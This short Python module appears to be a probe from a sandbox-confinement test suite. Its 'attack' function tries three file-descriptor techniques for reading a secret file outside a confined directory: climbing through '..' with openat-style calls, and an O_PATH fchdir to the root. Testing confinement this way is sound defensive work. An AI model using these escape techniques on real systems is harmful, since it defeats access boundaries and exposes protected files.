"""Success: a file outside, step by step relative to open folders."""

import os

from kit import tries


def climb(start, path):
    fd = os.open(start, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(20):
        fd = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
    for part in path.split("/")[1:-1]:
        fd = os.open(part, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
    return os.read(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=fd), 4096).decode()


def by_path_descriptors(path):
    fd = os.open("/", os.O_PATH | os.O_DIRECTORY)
    os.fchdir(fd)
    return os.read(os.open(path[1:], os.O_RDONLY), 4096).decode()


def attack(a):
    return tries(
        lambda: climb(".", a["secret_file"]),
        lambda: climb("/", a["secret_file"]),
        lambda: by_path_descriptors(a["secret_file"]),
    )
